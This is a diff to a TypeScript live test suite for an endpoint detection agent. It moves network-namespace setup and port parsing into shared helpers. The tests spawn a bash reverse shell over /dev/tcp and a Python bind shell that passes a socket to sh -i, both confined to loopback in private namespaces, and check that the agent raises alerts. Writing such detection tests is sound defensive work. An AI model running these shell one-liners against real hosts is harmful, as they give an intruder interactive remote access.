@@ -15,7 +15,7 @@ import type { EcsDocument } from '../../../agent/ecs/document.js';
 import { getField } from '../../../agent/ecs/document.js';
 import type { RunningAgent } from '../../helpers/agent-process.js';
 import { waitFor } from '../../helpers/wait.js';
-import { alertOf, checkAlert, events, run, startWith } from './live-helpers.js';
+import { alertOf, checkAlert, events, netns, printedPort, run, startWith } from './live-helpers.js';
 
 const root = process.getuid?.() === 0;
 
@@ -40,10 +40,7 @@ async function webContext(t: TestContext, agent: RunningAgent, realtime: 'off' |
   writeFileSync(join(dir, 'lighttpd.conf'), [
     `server.document-root = "${dir}/www"`, 'server.bind = "127.0.0.1"', 'server.port = 8080', 'server.modules = ("mod_alias", "mod_cgi")',
     `alias.url = ("/cgi-bin/" => "${dir}/cgi-bin/")`, 'cgi.assign = (".cgi" => "")', `server.errorlog = "${dir}/error.log"`, ''].join('\n'));
-  const ns = `pw-cgi-${process.pid}`;
-  execFileSync('ip', ['netns', 'add', ns]);
-  t.after(() => { try { execFileSync('ip', ['netns', 'del', ns]); } catch { /* gone */ } });
-  execFileSync('ip', ['netns', 'exec', ns, 'ip', 'link', 'set', 'lo', 'up']);
+  const ns = netns(t, 'pw-cgi');
   const server = spawn('ip', ['netns', 'exec', ns, 'lighttpd', '-D', '-f', join(dir, 'lighttpd.conf')], { stdio: 'ignore' });
   t.after(() => { server.kill('SIGKILL'); });
   const fetch = ['netns', 'exec', ns, 'python3', '-c', 'import urllib.request; urllib.request.urlopen("http://127.0.0.1:8080/cgi-bin/status.cgi").read()'];
@@ -96,17 +93,11 @@ async function attackClasses(t: TestContext, agent: RunningAgent, realtime: 'off
 
   // Class 1: bash -i >& /dev/tcp/127.0.0.1/PORT inside a private network namespace, to a listener
   // there that holds the connection until the alerts are out, then sends "exit" and hangs up.
-  const ns = `pw-live-${process.pid}`;
-  execFileSync('ip', ['netns', 'add', ns]);
-  t.after(() => { try { execFileSync('ip', ['netns', 'del', ns]); } catch { /* gone */ } });
-  execFileSync('ip', ['netns', 'exec', ns, 'ip', 'link', 'set', 'lo', 'up']);
+  const ns = netns(t, 'pw-live');
   const listener = spawn('ip', ['netns', 'exec', ns, 'python3', '-c',
     'import socket,sys\ns=socket.socket()\ns.bind(("127.0.0.1",0))\ns.listen(1)\nprint(s.getsockname()[1],flush=True)\nc,_=s.accept()\nsys.stdin.read()\nc.sendall(b"exit\\n")\nc.recv(64)\nc.close()'], { stdio: ['pipe', 'pipe', 'inherit'] });
   t.after(() => { listener.kill('SIGKILL'); });
-  const port = await new Promise<number>((resolve, reject) => {
-    listener.stdout.once('data', (b: Buffer) => { resolve(Number(b.toString().trim())); });
-    listener.once('exit', (code) => { reject(new Error(`listener exited (${String(code)})`)); });
-  });
+  const port = await printedPort(listener, 'listener');
   const shell = spawn('ip', ['netns', 'exec', ns, 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' });
   const shellExit = new Promise((resolve) => { shell.once('exit', resolve); });
   t.after(() => { shell.kill('SIGKILL'); });
@@ -130,19 +121,13 @@ async function attackClasses(t: TestContext, agent: RunningAgent, realtime: 'off
   // Bind shell: a Python one-liner listens in a private namespace and hands the connection it
   // accepts to sh -i (PayloadsAllTheThings' Python bind shell, subprocess form). Its command line
   // names no shell a rule could read; what gives it away is a listening process starting a shell.
-  const bns = `pw-bind-${process.pid}`;
-  execFileSync('ip', ['netns', 'add', bns]);
-  t.after(() => { try { execFileSync('ip', ['netns', 'del', bns]); } catch { /* gone */ } });
-  execFileSync('ip', ['netns', 'exec', bns, 'ip', 'link', 'set', 'lo', 'up']);
+  const bns = netns(t, 'pw-bind');
   const bind = spawn('ip', ['netns', 'exec', bns, 'python3', '-c',
     'import socket,subprocess\ns=socket.socket()\ns.bind(("127.0.0.1",0))\ns.listen(1)\nprint(s.getsockname()[1],flush=True)\nc,_=s.accept()\nsubprocess.call(["/bin/sh","-i"],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())'],
   { stdio: ['ignore', 'pipe', 'inherit'] });
   t.after(() => { bind.kill('SIGKILL'); });
   const bindPid = bind.pid ?? -1;
-  const bindPort = await new Promise<number>((resolve, reject) => {
-    bind.stdout.once('data', (b: Buffer) => { resolve(Number(b.toString().trim())); });
-    bind.once('exit', (code) => { reject(new Error(`bind shell exited (${String(code)})`)); });
-  });
+  const bindPort = await printedPort(bind, 'bind shell');
   // The agent has seen it listen before anyone connects (ip netns exec becomes python3 in place).
   await waitFor('the bind shell\'s listener', () => events(agent).find((d) => d.event.action === 'listening_started' && getField(d, 'destination.port') === bindPort && getField(d, 'process.pid') === bindPid), 45_000);
   await run('ip', ['netns', 'exec', bns, 'python3', '-c',
